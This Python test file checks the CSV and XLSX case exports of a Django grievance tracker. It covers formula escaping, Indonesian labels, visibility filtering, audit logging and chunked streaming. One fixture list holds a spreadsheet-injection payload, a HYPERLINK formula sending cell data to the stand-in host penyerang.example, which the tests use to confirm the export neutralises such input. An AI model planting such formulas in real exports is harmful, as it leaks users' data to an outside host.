"""The case export: what a spreadsheet shows, what it refuses to run, who gets which rows."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from grievances.cases.roles import OPERATOR_GROUP
from grievances.factories import CaseFactory, StaffFactory
from grievances.tracker import exports

pytestmark = pytest.mark.django_db

TYPED_AS_FORMULAS = [
    '=HYPERLINK("http://penyerang.example/?d="&A2,"Klik")',
    "+62 811 000",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def operator(hukatan):
    return StaffFactory(username="op-ekspor", role=OPERATOR_GROUP, federation=hukatan)


def csv_export(client, **query):
    response = client.get(reverse("grievances_case:index"), {"export": "csv", **query})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def xlsx_export(client, **query):
    response = client.get(reverse("grievances_case:index"), {"export": "xlsx", **query})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("typed", TYPED_AS_FORMULAS)
def test_an_employer_typed_as_a_formula_stays_text_in_csv_and_xlsx(client, operator, hukatan, typed):
    CaseFactory(federation=hukatan, employer=typed)
    client.force_login(operator)

    (row,) = csv_export(client)
    assert row["Pemberi kerja atau perusahaan"] == "'" + typed

    (row,) = xlsx_export(client)
    cell = row["Pemberi kerja atau perusahaan"]
    assert cell.data_type == "s", "a string cell, never a formula"
    assert cell.value == "'" + typed


def test_the_xlsx_export_reads_like_the_case_page(client, operator, hukatan):
    CaseFactory(federation=hukatan, employer="PT Contoh", status="handling", risk_retaliation=True)
    client.force_login(operator)
    (row,) = xlsx_export(client)
    values = {header: cell.value for header, cell in row.items()}
    assert values["Status"] == "penanganan"
    assert values["Takut pembalasan"] == "Ya"
    assert values["Pelecehan seksual atau kekerasan berbasis gender"] == "Tidak"
    assert values["Federasi"] == "FSB Hukatan"
    assert not {"handling", "True", "False", "web"} & set(values.values())


def test_an_export_holds_only_the_filtered_visible_cases_and_logs_each(client, operator, hukatan, nikeuba):
    received = CaseFactory(federation=hukatan)
    handling = CaseFactory(federation=hukatan, status="handling")
    elsewhere = CaseFactory(federation=nikeuba, status="handling")
    client.force_login(operator)

    for export in (csv_export, xlsx_export):
        rows = export(client, status="handling")
        references = {getattr(row["Nomor referensi"], "value", row["Nomor referensi"]) for row in rows}
        assert references == {handling.reference}

    logged = ModelLogEntry.objects.filter(action="grievances.export")
    assert sorted(logged.values_list("data__format", flat=True)) == ["csv", "xlsx"]
    assert set(logged.values_list("object_id", flat=True)) == {str(handling.pk)}
    assert not logged.filter(object_id__in=[str(received.pk), str(elsewhere.pk)]).exists()


def test_a_large_export_is_read_in_chunks_without_a_query_per_case(
    client, operator, hukatan, monkeypatch, django_assert_max_num_queries
):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 3)
    cases = CaseFactory.create_batch(8, federation=hukatan, responsible_operator=operator)
    for case in cases:
        case.handlers.add(operator)
    client.force_login(operator)
    response = client.get(reverse("grievances_case:index"), {"export": "csv"})
    assert response.streaming
    # Three chunks: a case, its topics and handlers, and the audit entries, per chunk; not per case.
    with django_assert_max_num_queries(20):
        body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline="")))[1:]
    assert {row[0] for row in rows} == {case.reference for case in cases}
    assert ModelLogEntry.objects.filter(action="grievances.export").count() == 8
